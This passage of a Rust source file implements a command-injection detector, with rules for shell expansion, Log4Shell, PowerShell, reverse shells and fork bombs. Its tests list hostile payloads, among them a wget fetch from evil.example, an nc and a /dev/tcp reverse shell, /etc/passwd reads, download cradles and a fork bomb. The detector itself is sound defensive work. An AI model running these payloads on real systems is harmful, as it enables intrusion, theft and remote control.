            b']' if depth > 0 => depth -= 1,
            b'/' if depth == 0 => last = Some(j),
            _ => {}
        }
    }
    if let Some(l) = last {
        let (dir, base) = (&t[..l], &t[l + 1..]);
        if l > 0 && !base.is_empty() && BIN_DIRS.iter().any(|d| glob_match(dir, d.as_bytes())) {
            return COMMAND_TABLE
                .keys
                .iter()
                .any(|k| k.0.len() >= 2 && glob_match(base, k.0));
        }
    }
    false
}

/// Brace expansion `{cmd,arg}` / `c{a,oun}t` whose first expansion is a command.
fn brace_rule(n: &[u8]) -> Option<(usize, usize)> {
    let mut from = 0;
    let mut budget = 64; // brace groups examined per input
    while let Some(p) = memchr::memchr(b'{', &n[from..]) {
        let o = from + p;
        from = o + 1;
        let Some(q) = memchr::memchr2(b'}', b'{', &n[o + 1..n.len().min(o + 257)]) else {
            continue;
        };
        if n[o + 1 + q] == b'{' {
            from = o + 1 + q;
            continue;
        }
        let q = q + 1;
        let inner = &n[o + 1..o + q];
        if budget == 0 {
            return None;
        }
        budget -= 1;
        if !inner.contains(&b',')
            || inner
                .iter()
                .any(|&c| c == b' ' || c == b':' || c == b'{' || c == b'"' || c >= 0x80)
        {
            continue;
        }
        // glued prefix/suffix letters
        let mut ps = o;
        while ps > 0 && n[ps - 1].is_ascii_alphanumeric() {
            ps -= 1;
        }
        let prefix = &n[ps..o];
        let mut se = o + q + 1;
        while se < n.len() && n[se].is_ascii_alphanumeric() {
            se += 1;
        }
        let suffix = &n[o + q + 1..se];
        let Some(first) = inner
            .split(|&c| c == b',')
            .find(|x| !x.is_empty() || !prefix.is_empty())
        else {
            continue;
        };
        let mut w = Vec::with_capacity(prefix.len() + first.len() + suffix.len());
        w.extend_from_slice(prefix);
        w.extend_from_slice(first);
        w.extend_from_slice(suffix);
        if lookup(&w).is_some() {
            return Some((ps, se));
        }
        if (w.starts_with(b"/") && glob_token(&w))
            || BIN_DIRS
                .iter()
                .any(|d| w.starts_with(d.as_bytes()) && w.get(d.len()) == Some(&b'/'))
        {
            return Some((ps, se));
        }
    }
    None
}

/// Fork bomb: `name(){ ... name | name & ... }`.
fn fork_bomb(n: &[u8]) -> Option<(usize, usize)> {
    let mut from = 0;
    let mut budget = 16; // candidate definitions examined per input
    while let Some(p) = F_PARENS.find(&n[from..]) {
        let o = from + p;
        from = o + 2;
        let mut j = o + 2;
        while j < n.len() && n[j] == b' ' {
            j += 1;
        }
        if j >= n.len() || n[j] != b'{' {
            continue;
        }
        let mut ns = o;
        while ns > 0
            && (n[ns - 1].is_ascii_alphanumeric() || matches!(n[ns - 1], b'_' | b':' | b'.' | b'-'))
        {
            ns -= 1;
        }
        let name = &n[ns..o];
        if name.is_empty() || name.len() > 32 {
            continue;
        }
        if budget == 0 {
            return None;
        }
        budget -= 1;
        let Some(close) = n[j..].iter().take(512).position(|&c| c == b'}') else {
            continue;
        };
        let body = &n[j + 1..j + close];
        // body must call the function and background or pipe it
        let mut k = 0;
        let mut calls = 0;
        let mut ops = false;
        while k + name.len() <= body.len() {
            if &body[k..k + name.len()] == name
                && (k == 0 || !body[k - 1].is_ascii_alphanumeric())
                && body
                    .get(k + name.len())
                    .is_none_or(|c| !c.is_ascii_alphanumeric())
            {
                calls += 1;
                k += name.len();
                continue;
            }
            if body[k] == b'|' || body[k] == b'&' {
                ops = true;
            }
            k += 1;
        }
        if calls >= 2 && ops {
            return Some((ns, j + close + 1));
        }
    }
    None
}

// ---------------------------------------------------------------------------------------
// Entry point
// ---------------------------------------------------------------------------------------

/// Byte classes seen in the raw input: one bit per byte the rules care about, so that a
/// single pass answers every "does the value contain X" question.
const B_SEMI: u32 = 1;
const B_PIPE: u32 = 1 << 1;
const B_AMP: u32 = 1 << 2;
const B_LF: u32 = 1 << 3;
const B_CR: u32 = 1 << 4;
const B_DOLLAR: u32 = 1 << 5;
const B_TICK: u32 = 1 << 6;
const B_LT: u32 = 1 << 7;
const B_GT: u32 = 1 << 8;
const B_LBRACE: u32 = 1 << 9;
const B_TILDE: u32 = 1 << 10;
const B_BANG: u32 = 1 << 11;
const B_BSLASH: u32 = 1 << 12;
const B_CARET: u32 = 1 << 13;
const B_EQ: u32 = 1 << 14;
const B_LPAREN: u32 = 1 << 15;
const B_GLOB: u32 = 1 << 16;
const B_QUOTE: u32 = 1 << 17;
/// Bytes that make the full analysis worthwhile.
const TRIGGER: u32 = (1 << 15) - 1;
/// Bytes after which [`normalize`] may no longer map output offsets 1:1 to input offsets.
const NOT_IDENT: u32 = B_QUOTE | B_BSLASH | B_CARET | B_TICK | B_AMP | B_LT | B_GT | B_DOLLAR;

pub(super) static CLASS: [u32; 256] = {
    let mut t = [0u32; 256];
    let pairs: [(u8, u32); 22] = [
        (b';', B_SEMI),
        (b'|', B_PIPE),
        (b'&', B_AMP),
        (b'\n', B_LF),
        (b'\r', B_CR),
        (b'$', B_DOLLAR),
        (b'`', B_TICK),
        (b'<', B_LT),
        (b'>', B_GT),
        (b'{', B_LBRACE),
        (b'~', B_TILDE),
        (b'!', B_BANG),
        (b'\\', B_BSLASH),
        (b'^', B_CARET),
        (b'=', B_EQ),
        (b'(', B_LPAREN),
        (b'?', B_GLOB),
        (b'*', B_GLOB),
        (b'[', B_GLOB),
        (b'\'', B_QUOTE),
        (b'"', B_QUOTE),
        (b'\t', 0),
    ];
    let mut i = 0;
    while i < pairs.len() {
        t[pairs[i].0 as usize] = pairs[i].1;
        i += 1;
    }
    t
};

/// OR of [`CLASS`] over `b`.
fn byte_classes(b: &[u8]) -> u32 {
    super::classes::or_over(&CLASS, b)
}

/// Bytes collected into the first word by [`worth_looking`].
#[inline]
fn first_word_byte(c: u8) -> bool {
    static T: [bool; 256] = {
        let mut t = [false; 256];
        let mut c = 0;
        while c < 256 {
            let b = c as u8;
            t[c] = b.is_ascii_alphanumeric()
                || matches!(b, b'-' | b'_' | b'.' | b'[' | b']' | b'/' | b':');
            c += 1;
        }
        t
    };
    T[c as usize]
}

/// Cheap pre-check: any trigger byte, or a first word that is a known command / path /
/// batch keyword.
fn worth_looking(b: &[u8], classes: u32) -> bool {
    if classes & TRIGGER != 0 {
        return true;
    }
    let mut i = 0;
    while i < b.len() && matches!(b[i], b' ' | b'\t' | b'\'' | b'"' | b'@' | b'(') {
        i += 1;
    }
    if i < b.len() && (b[i] == b'/' || b[i] == b'~') {
        return true;
    }
    // Quick reject on the first (up to) three word bytes when they are plain (no quote,
    // bracket or colon, which the word rules below rewrite or look at): the word is then
    // interesting only if it starts like a keyword below or a command name.
    let mut head = [0u8; 3];
    let mut hl = 0;
    let mut plain = true;
    while hl < 3 {
        match b.get(i + hl) {
            Some(b'\'' | b'"' | b'[' | b':') => {
                plain = false;
                break;
            }
            Some(&c) if first_word_byte(c) => {
                head[hl] = c.to_ascii_lowercase();
                hl += 1;
            }
            _ => break,
        }
    }
    if plain {
        let head = &head[..hl];
        if !matches!(head, b"if" | b"if/" | b"for" | b"ali" | b"inv" | b"bin")
            && !COMMAND_TABLE.may_match(head)
        {
            return false;
        }
    }
    let mut w = [0u8; 24];
    let mut len = 0;
    while i < b.len() && len < w.len() {
        let c = b[i];
        if c == b'\'' || c == b'"' {
            i += 1;
            continue;
        }
        if first_word_byte(c) {
            w[len] = c.to_ascii_lowercase();
            len += 1;
            i += 1;
        } else {
            break;
        }
    }
    let w = &w[..len];
    if w.is_empty() {
        return false;
    }
    if matches!(w, b"if" | b"if/i" | b"for" | b"alias")
        || w.starts_with(b"invoke-")
        || w.starts_with(b"bin/")
    {
        return true;
    }
    if w.len() > 2 && w[0].is_ascii_alphabetic() && w[1] == b':' {
        return true;
    }
    lookup(w).is_some()
}

thread_local! {
    static NORM: RefCell<Norm> = RefCell::new(Norm::default());
}

/// The paranoia level 2 rules (run when [`detect`] found nothing and the agent runs at level
/// 2): none yet.
pub fn detect_strict(input: &str) -> Option<Finding> {
    let _ = input;
    None
}

/// Looks for a command-injection attack in one decoded input value.
///
/// Returns the first rule that matched and the byte span of the matched fragment.
pub fn detect(input: &str) -> Option<Finding> {
    let mut cut = input.len().min(MAX_INPUT);
    while !input.is_char_boundary(cut) {
        cut -= 1;
    }
    let input = &input[..cut];
    let b = input.as_bytes();
    if b.len() < 2 {
        return None;
    }
    let classes = byte_classes(b);
    if !worth_looking(b, classes) {
        return None;
    }
    analyse(input, classes)
}

/// [`detect`] on a value whose [`byte_classes`] mask the caller already has (the scan's shared
/// pass, [`super::classes`]).
pub(super) fn detect_classified(input: &str, classes: u32) -> Option<Finding> {
    if input.len() > MAX_INPUT {
        return detect(input);
    }
    let b = input.as_bytes();
    if b.len() < 2 || !worth_looking(b, classes) {
        return None;
    }
    analyse(input, classes)
}

/// Full analysis of a value that passed [`worth_looking`]; `classes` is its
/// [`byte_classes`] mask.
#[inline(never)]
fn analyse(input: &str, classes: u32) -> Option<Finding> {
    let b = input.as_bytes();
    let found = |rule: &'static str, s: usize, e: usize| -> Option<Finding> {
        Some(Finding {
            rule,
            span: char_span(input, s, e),
        })
    };
    let has = |bit: u32| classes & bit != 0;

    // structural rules on the raw text
    if has(B_LPAREN) && F_PARENS.find(b).is_some() {
        if let Some(m) = RE_SHELLSHOCK.find(input) {
            return found(R_SHELLSHOCK, m.start(), m.end());
        }
    }
    if has(B_DOLLAR) {
        if let Some((s, e)) = log4shell(b) {
            return found(R_LOG4J, s, e);
        }
        if let Some(p) = find_ci(b, b"$ifs").or_else(|| find_ci(b, b"${ifs")) {
            return found(R_IFS, p, p + 4);
        }
        if let Some(m) = RE_EXPANSION.find(input) {
            return found(R_EXP, m.start(), m.end());
        }
        if let Some((s, e)) = braced_command(b) {
            return found(R_EXP, s, e);
        }
    } else if has(B_BANG) && memchr::memchr_iter(b'!', b).any(|p| b.get(p + 1) == Some(&b'-')) {
        // without a `$` only the history alternative (`!-2`) of the regex can match
        if let Some(m) = RE_EXPANSION.find(input) {
            return found(R_EXP, m.start(), m.end());
        }
    }
    if has(B_TILDE) {
        if let Some(m) = RE_TILDE.find(input) {
            return found(R_EXP, m.start(), m.end());
        }
    }
    if has(B_LF) {
        if let Some(m) = RE_MAIL.find(input) {
            return found(R_MAIL, m.start(), m.end());
        }
    }
    if has(B_SEMI) && (F_SEMIDOT.find(b).is_some() || sqlite_gate(b)) {
        if let Some(m) = RE_SQLITE.find(input) {
            return found(R_SQLITE, m.start(), m.end());
        }
    }
    if batch_gate(b) {
        if let Some(m) = RE_BATCH.find(input) {
            return found(R_BATCH, m.start(), m.end());
        }
    }

    // normalised view
    let vars = if has(B_EQ) && has(B_DOLLAR) {
        collect_vars(b)
    } else {
        Vars::default()
    };
    NORM.with(|cell| {
        let mut guard = cell.try_borrow_mut().ok();
        let mut local = Norm::default();
        let norm: &mut Norm = match guard.as_deref_mut() {
            Some(n) => n,
            None => &mut local,
        };
        normalize(b, classes, &vars, norm);
        let n = &norm.n;
        let map = |s: usize, e: usize| norm.map(s, e);
        // Gates on `n` are preceded by raw-byte tests: `n` only holds bytes of the input
        // (lower-cased), spaces and `sh`, so a symbol absent from the input is absent here.
        if F_ALIAS.find(n).is_some() {
            if let Some(mm) = RE_ALIAS.find(&input.to_ascii_lowercase()) {
                return found(R_UNIX, mm.start(), mm.end());
            }
        }
        if ps_gate(n) {
            if let Some(mm) = RE_POWERSHELL.find(n) {
                let (s, e) = map(mm.start(), mm.end());
                return found(R_PS, s, e);
            }
        }
        if has(B_PIPE) && memchr::memchr(b'|', n).is_some() {
            if let Some(mm) = RE_PIPE_SHELL.find(n) {
                let (s, e) = map(mm.start(), mm.end());
                return found(R_UNIX, s, e);
            }
        }
        if F_DEV.find(n).is_some() {
            if let Some(mm) = RE_DEVTCP.find(n) {
                let (s, e) = map(mm.start(), mm.end());
                return found(R_UNIX, s, e);
            }
        }
        if has(B_LBRACE) && memchr::memchr(b'{', n).is_some() {
            if let Some((s, e)) = fork_bomb(n) {
                let (s, e) = map(s, e);
                return found(R_FORK, s, e);
            }
            if let Some((s, e)) = brace_rule(n) {
                let (s, e) = map(s, e);
                return found(R_EXP, s, e);
            }
        }
        if has(B_GLOB) && memchr::memchr3(b'?', b'*', b'[', n).is_some() {
            if let Some((s, e)) = glob_rule(n) {
                let (s, e) = map(s, e);
                return found(R_GLOB, s, e);
            }
        }
        let sc = Scanner {
            n,
            stops: Stops::from_classes(classes),
        };
        if let Some(h) = sc.run() {
            let (s, e) = map(h.start, h.end);
            return found(h.rule, s, e);
        }
        // a command word right after a leading backslash (`\ls` bypasses aliases)
        if has(B_BSLASH) {
            if let Some(h) = backslash_command(b) {
                return found(R_UNIX, h.0, h.1);
            }
        }
        None
    })
}

/// Necessary condition for [`RE_POWERSHELL`] to match the (lower-case) normalised text,
/// checked around each `-`, `(` and `$` instead of with a keyword automaton: every
/// alternative of the regex has a `-` right after `invoke|new|start|set|add|get` or right
/// before `encodedcommand`, or `(`/`$` after `string|file|data|iex` and blanks, or
/// `powershell` and a later `-`.
fn ps_gate(n: &[u8]) -> bool {
    let mut dash = false;
    for p in memchr::memchr3_iter(b'-', b'(', b'$', n) {
        if n[p] == b'-' {
            let before = &n[..p];
            if [&b"invoke"[..], b"new", b"start", b"set", b"add", b"get"]
                .iter()
                .any(|k| before.ends_with(k))
                || n[p + 1..].starts_with(b"encodedcommand")
            {
                return true;
            }
            dash = true;
        } else {
            // `\s*` before `(`: ASCII blanks or any non-ASCII byte (Unicode spaces)
            let mut k = p;
            while k > 0 && (matches!(n[k - 1], b'\t'..=b'\r' | b' ') || n[k - 1] >= 0x80) {
                k -= 1;
            }
            let before = &n[..k];
            if before.ends_with(b"iex")
                || (n[p] == b'('
                    && (before.ends_with(b"string")
                        || before.ends_with(b"file")
                        || before.ends_with(b"data")))
            {
                return true;
            }
        }
    }
    dash && find_sub(n, b"powershell").is_some()
}

/// A `;` followed (after blanks, quotes or literal `\n`) by `.`: SQLite dot command shape.
fn sqlite_gate(b: &[u8]) -> bool {
    memchr::memchr_iter(b';', b).any(|p| {
        let mut j = p + 1;
        while j < b.len()
            && j - p < 16
            && matches!(
                b[j],
                b' ' | b'\t' | b'\n' | b'\r' | b'\\' | b'n' | b'r' | b'"' | b'\''
            )
        {
            j += 1;
        }
        b.get(j) == Some(&b'.')
    })
}

/// `if` / `for` as the first word of the value or after a separator (blanks and `@`
/// skipped). Found from each `f`/`F`: the keyword must end or start there.
fn batch_gate(b: &[u8]) -> bool {
    let is_kw_start = |j: usize, kw: &[u8]| {
        b.len() >= j + kw.len()
            && b[j..j + kw.len()].eq_ignore_ascii_case(kw)
            && b.get(j + kw.len())
                .is_none_or(|c| !c.is_ascii_alphanumeric())
            && {
                // command position: value start or a separator before the blanks
                let mut k = j;
                while k > 0 && matches!(b[k - 1], b' ' | b'\t' | b'@') {
                    k -= 1;
                }
                k == 0 || matches!(b[k - 1], b';' | b'&' | b'|' | b'(' | b'\n')
            }
    };
    memchr::memchr2_iter(b'f', b'F', b)
        .any(|p| (p > 0 && is_kw_start(p - 1, b"if")) || is_kw_start(p, b"for"))
}

/// `\ls`, `;\cat`: a backslash-escaped known command in command position.
fn backslash_command(b: &[u8]) -> Option<(usize, usize)> {
    let mut from = 0;
    while let Some(p) = memchr::memchr(b'\\', &b[from..]) {
        let o = from + p;
        from = o + 1;
        let mut k = o;
        while k > 0 && b[k - 1] == b' ' {
            k -= 1;
        }
        if !(k == 0 || matches!(b[k - 1], b';' | b'|' | b'&' | b'\n' | b'`' | b'(')) {
            continue;
        }
        let s = o + 1;
        let mut e = s;
        while e < b.len() && (b[e].is_ascii_alphanumeric() || b[e] == b'-') && e - s < 32 {
            e += 1;
        }
        if e > s && (e == b.len() || matches!(b[e], b' ' | b';' | b'|' | b'&' | b'\n')) {
            let w = b[s..e].to_ascii_lowercase();
            if lookup(&w).is_some() {
                return Some((o, e));
            }
        }
    }
    None
}

/// `${cmd}`: a braced expansion whose name is a non-English command word.
fn braced_command(b: &[u8]) -> Option<(usize, usize)> {
    let mut from = 0;
    while let Some(p) = memchr::memmem::find(&b[from..], b"${") {
        let o = from + p;
        from = o + 2;
        let s = o + 2;
        let mut e = s;
        while e < b.len() && e - s < 24 && (b[e].is_ascii_alphanumeric() || b[e] == b'-') {
            e += 1;
        }
        if e > s && b.get(e) == Some(&b'}') {
            let w = b[s..e].to_ascii_lowercase();
            if lookup(&w).is_some_and(|f| f & EN == 0) {
                return Some((o, e + 1));
            }
        }
    }
    None
}

fn find_ci(h: &[u8], needle: &[u8]) -> Option<usize> {
    if h.len() < needle.len() {
        return None;
    }
    (0..=h.len() - needle.len()).find(|&i| h[i..i + needle.len()].eq_ignore_ascii_case(needle))
}

/// Widens `[s, e)` to char boundaries of `input` and clamps it.
fn char_span(input: &str, s: usize, e: usize) -> std::ops::Range<usize> {
    let len = input.len();
    let mut s = s.min(len);
    let mut e = e.clamp(s, len);
    while s > 0 && !input.is_char_boundary(s) {
        s -= 1;
    }
    while e < len && !input.is_char_boundary(e) {
        e += 1;
    }
    s..e
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(s: &str) -> Option<&'static str> {
        detect(s).map(|f| f.rule)
    }

    #[test]
    fn attacks() {
        for a in [
            "; cat /etc/passwd",
            "127.0.0.1;id",
            "127.0.0.1 | whoami",
            "x && wget http://evil.example/x.sh",
            "$(whoami)",
            "`id`",
            "a`uname -a`",
            "c'a't /etc/passwd",
            "c\"a\"t /etc/passwd",
            ";c\\at /etc/passwd",
            "cat${IFS}/etc/passwd",
            ";cat$IFS$9/etc/passwd",
            ";{cat,/etc/passwd}",
            "/???/c?t /etc/passwd",
            "/bin/c[a]t /etc/passwd",
            "|c^m^d /c dir",
            "& cmd.exe /c whoami",
            "; powershell -enc SQBFAFgA",
            "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
            "() { :; }; /bin/bash -c id",
            "${jndi:ldap://x.example/a}",
            "${${lower:j}ndi:ldap://x.example/a}",
            "${${::-j}${::-n}di:rmi://x/a}",
            "$((1+1))",
            ";nc -e /bin/sh 10.0.0.1 4444",
            "| python -c 'import os'",
            "; ping -c 10 127.0.0.1",
            ";sleep 5",
            "a=cat;b=/etc/passwd;$a $b",
            "FOR /L %G IN (1,1,5) DO echo %G",
            "IF EXIST C:\\boot.ini type C:\\boot.ini",
            "; certutil -urlcache -split -f http://x/a.exe",
            ":(){ :|:& };:",
            "\r\nMAIL FROM:<a@b.example>",
            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
            "echo aWQ= | base64 -d | sh",
        ] {
            assert!(hit(a).is_some(), "missed {a:?}");
        }
    }

    #[test]
    fn benign() {
        for b in [
            "O'Brien",
            "select a plan",
            "1 or 2 bedrooms",
            "a<b && c>d",
            "I'm 5'10\"",
            "rock & roll",
            "Tom & Jerry",
            "R&D; budget",
            "price > 5",
            "a|b",
            "| Name | Value |",
            "/home/user/docs",
            "https://example.com/a?b=c",
            "john.doe@example.com",
            "C:\\Program Files",
            "Mozilla/5.0",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
            "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
            "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; ARM; Trident/6.0; Touch)",
            "curl/7.68.0",
            "Wget/1.21.2",
            "{\"name\": \"cat\", \"tags\": [\"a\", \"b\"], \"ok\": true}",
            "I like cat videos",
            "ping me later",
            "ls",
            "find a doctor",
            "sleep well",
            "time warner",
            "how to use ls -la",
            "Hello; time he came",
            "Time & Date",
            "Save & Exit",
            "Copy & Paste",
            "$HOME",
            "$ENV{'HOME'}",
            "{0}",
            "%n",
            "hello world (test)",
            "page[1]",
            "data[index]",
            "Does the * shine bright?",
            "if you want, come",
            "for the win",
            "The alias is not = to the name",
            "We received this mail from Mars",
            "List 3 things\r\nTop 10 rules",
            "2024-01-02",
            "550e8400-e29b-41d4-a716-446655440000",
            "SGVsbG8gd29ybGQ=",
            "$5.99 & free shipping",
            "**bold** and `code`",
            "use `cat` to print a file",
            "~/docs",
        ] {
            assert_eq!(hit(b), None, "false positive on {b:?}: {:?}", detect(b));
        }
    }

    #[test]
    fn prefilters_are_sound() {
        // every form `lookup` accepts passes the prefix filters
        let t = &*COMMAND_TABLE;
        for &(k, _) in &t.keys {
            let mut forms = vec![k.to_vec(), [k, b".exe"].concat()];
            if !k.ends_with(b".") && !k.last().is_some_and(u8::is_ascii_digit) {
                forms.push([k, b"3.1"].concat());
            }
            if k.len() > 1 {
                forms.push([b"[", &k[..1], b"]", &k[1..]].concat());
            }
            for f in forms {
                assert!(lookup(&f).is_some(), "{:?}", String::from_utf8_lossy(&f));
                // (a first word ends at the first byte outside `first_word_byte`)
                if f.iter().all(|&c| first_word_byte(c)) {
                    let v = [f.as_slice(), b" -la /etc"].concat();
                    assert!(worth_looking(&v, byte_classes(&v)), "{:?}", v);
                }
            }
        }
        for p in FAMILIES {
            assert!(lookup(&[p, b"x"].concat()).is_some());
        }
        // the PowerShell gate holds wherever the regex matches
        for s in [
            "invoke-expression",
            "new-object net.webclient",
            "start-process x",
            "set-mppreference",
            "add-mppreference",
            "set-executionpolicy",
            "get-wmiobject",
            "frombase64string (",
            "downloadfile\u{a0}(",
            "downloaddata(",
            "x-encodedcommand",
            "iex $x",
            "iex(",
            "powershell.exe -nop",
        ] {
            assert!(RE_POWERSHELL.is_match(s.as_bytes()), "{s}");
            assert!(ps_gate(s.as_bytes()), "{s}");
        }
    }

    #[test]
    fn spans_are_valid() {
        for a in ["é;cat /etc/passwd", "ü${jndi:ldap://x/ä}", "日本;id"] {
            let f = detect(a).expect("hit");
            assert!(a.is_char_boundary(f.span.start) && a.is_char_boundary(f.span.end));
            assert!(f.span.start < f.span.end && f.span.end <= a.len());
        }
    }

    #[test]
    fn no_panic_on_random_input() {
        let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
        let alphabet: Vec<char> = ";|&$`(){}[]<>'\"\\^~!?*=/ \n\tabcIFSjndi:-.é日\u{0}\u{FFFD}"
            .chars()
            .collect();
        for _ in 0..20_000 {
            let mut s = String::new();
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            let len = (x % 64) as usize;
            for _ in 0..len {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                s.push(alphabet[(x % alphabet.len() as u64) as usize]);
            }
            if let Some(f) = detect(&s) {
                assert!(s.is_char_boundary(f.span.start) && s.is_char_boundary(f.span.end));
            }
            let bytes: Vec<u8> = (0..len).map(|k| (x >> (k % 56)) as u8).collect();
            let _ = detect(&String::from_utf8_lossy(&bytes));
        }
    }
}
